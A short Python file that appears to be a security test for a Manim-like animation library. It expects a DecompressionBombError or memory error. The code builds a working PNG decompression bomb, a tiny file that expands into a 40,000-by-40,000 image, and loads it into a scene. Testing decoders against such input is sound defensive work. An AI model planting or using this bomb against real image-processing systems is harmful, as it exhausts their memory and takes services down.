"""Success: a small file becomes an image of gigabytes.

Outcome: failed: DecompressionBombError|[Mm]emory
"""

import struct, zlib


class Attack(Scene):
    def construct(self):
        def chunk(kind, data):
            return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

        side = 40_000
        packer = zlib.compressobj(9)
        rows = b"".join(packer.compress(bytes(side // 8 + 1)) for _ in range(side)) + packer.flush()
        head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
        with open("bomb.png", "wb") as file:
            file.write(
                b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
            )
        self.add(ImageMobject("bomb.png"))
